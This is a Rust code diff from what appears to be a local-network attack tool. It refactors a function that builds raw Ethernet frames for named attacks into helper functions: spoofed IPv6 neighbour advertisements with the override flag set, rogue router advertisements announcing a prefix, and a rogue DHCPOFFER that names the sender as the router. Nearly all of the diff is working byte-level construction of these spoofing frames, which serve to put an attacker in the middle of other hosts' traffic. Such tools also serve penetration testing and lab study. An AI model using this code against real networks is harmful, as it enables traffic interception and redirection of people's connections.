@@ -116,44 +116,17 @@ fn frames(attack: &str, a: &[String]) -> Result<Vec<Vec<u8>>, String> {
         }
         "na" => {
             let (m, s, target) = (mac(0)?, v6(1)?, v6(2)?);
-            // Type 136, flags override (and solicited off), target, target link-layer option.
-            let mut body = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
-            body.extend_from_slice(&target.octets());
-            body.extend_from_slice(&[2, 1]);
-            body.extend_from_slice(&m);
+            let body = na_body(m, target);
             vec![ether(ALL_NODES_MAC, m, 0x86dd, &icmp6(s, ALL_NODES, body))]
         }
         "ra" => {
             let (m, s, prefix) = (mac(0)?, v6(1)?, v6(2)?);
-            // Type 134, hop limit 64, no flags, router lifetime 1800, reachable, retrans.
-            let mut body = vec![134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
-            // Prefix information: /64, on-link and autonomous, lifetimes 1 h.
-            body.extend_from_slice(&[3, 4, 64, 0xc0]);
-            body.extend_from_slice(&3600u32.to_be_bytes());
-            body.extend_from_slice(&3600u32.to_be_bytes());
-            body.extend_from_slice(&[0; 4]);
-            body.extend_from_slice(&prefix.octets());
-            body.extend_from_slice(&[1, 1]);
-            body.extend_from_slice(&m);
+            let body = ra_body(m, prefix);
             vec![ether(ALL_NODES_MAC, m, 0x86dd, &icmp6(s, ALL_NODES, body))]
         }
         "dhcp-offer" => {
             let (m, s, offered) = (mac(0)?, v4(1)?, v4(2)?);
-            let mut b = vec![0u8; 240];
-            b[0] = 2; // BOOTREPLY
-            b[1] = 1;
-            b[2] = 6;
-            b[4..8].copy_from_slice(&0x1234_5678u32.to_be_bytes());
-            b[16..20].copy_from_slice(&offered.octets());
-            b[20..24].copy_from_slice(&s.octets());
-            b[236..240].copy_from_slice(&[99, 130, 83, 99]);
-            // DHCPOFFER, server id, router = us, end.
-            b.extend_from_slice(&[53, 1, 2, 54, 4]);
-            b.extend_from_slice(&s.octets());
-            b.extend_from_slice(&[3, 4]);
-            b.extend_from_slice(&s.octets());
-            b.push(255);
-            let u = udp(67, 68, &b);
+            let u = udp(67, 68, &dhcp_offer(s, offered));
             vec![ether(
                 BROADCAST,
                 m,
@@ -163,6 +136,50 @@ fn frames(attack: &str, a: &[String]) -> Result<Vec<Vec<u8>>, String> {
         }
         other => return Err(format!("unknown attack {other:?}")),
     })
+}
+
+/// A neighbour advertisement: type 136, flags override (and solicited off), target, target
+/// link-layer option.
+fn na_body(m: Mac, target: Ipv6Addr) -> Vec<u8> {
+    let mut body = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
+    body.extend_from_slice(&target.octets());
+    body.extend_from_slice(&[2, 1]);
+    body.extend_from_slice(&m);
+    body
+}
+
+/// A router advertisement: type 134, hop limit 64, no flags, router lifetime 1800,
+/// reachable, retrans; prefix information /64, on-link and autonomous, lifetimes 1 h; the
+/// source link-layer option.
+fn ra_body(m: Mac, prefix: Ipv6Addr) -> Vec<u8> {
+    let mut body = vec![134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
+    body.extend_from_slice(&[3, 4, 64, 0xc0]);
+    body.extend_from_slice(&3600u32.to_be_bytes());
+    body.extend_from_slice(&3600u32.to_be_bytes());
+    body.extend_from_slice(&[0; 4]);
+    body.extend_from_slice(&prefix.octets());
+    body.extend_from_slice(&[1, 1]);
+    body.extend_from_slice(&m);
+    body
+}
+
+/// A DHCPOFFER of `offered` from server `s`, naming itself the router.
+fn dhcp_offer(s: Ipv4Addr, offered: Ipv4Addr) -> Vec<u8> {
+    let mut b = vec![0u8; 240];
+    b[0] = 2; // BOOTREPLY
+    b[1] = 1;
+    b[2] = 6;
+    b[4..8].copy_from_slice(&0x1234_5678u32.to_be_bytes());
+    b[16..20].copy_from_slice(&offered.octets());
+    b[20..24].copy_from_slice(&s.octets());
+    b[236..240].copy_from_slice(&[99, 130, 83, 99]);
+    // DHCPOFFER, server id, router = us, end.
+    b.extend_from_slice(&[53, 1, 2, 54, 4]);
+    b.extend_from_slice(&s.octets());
+    b.extend_from_slice(&[3, 4]);
+    b.extend_from_slice(&s.octets());
+    b.push(255);
+    b
 }
 
 fn parse_mac(s: &str) -> Result<Mac, String> {
